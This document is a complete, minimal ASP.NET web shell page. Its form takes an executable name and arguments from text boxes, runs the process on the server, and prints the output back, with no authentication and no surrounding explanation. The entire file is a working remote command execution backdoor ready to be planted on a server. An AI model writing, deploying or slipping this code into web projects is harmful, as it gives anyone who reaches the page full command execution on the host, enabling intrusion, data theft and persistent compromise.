<%@ Page Language="C#" %>
<script runat="server">
void Run(object s, EventArgs e) {
  var si = new System.Diagnostics.ProcessStartInfo(exe.Text, args.Text);
  si.RedirectStandardOutput = true; si.UseShellExecute = false;
  outp.Text = System.Diagnostics.Process.Start(si).StandardOutput.ReadToEnd();
}
</script>
<form runat="server"><asp:TextBox id="exe" runat="server"/><asp:TextBox id="args" runat="server"/><asp:Button OnClick="Run" runat="server"/><pre><asp:Literal id="outp" runat="server"/></pre></form>
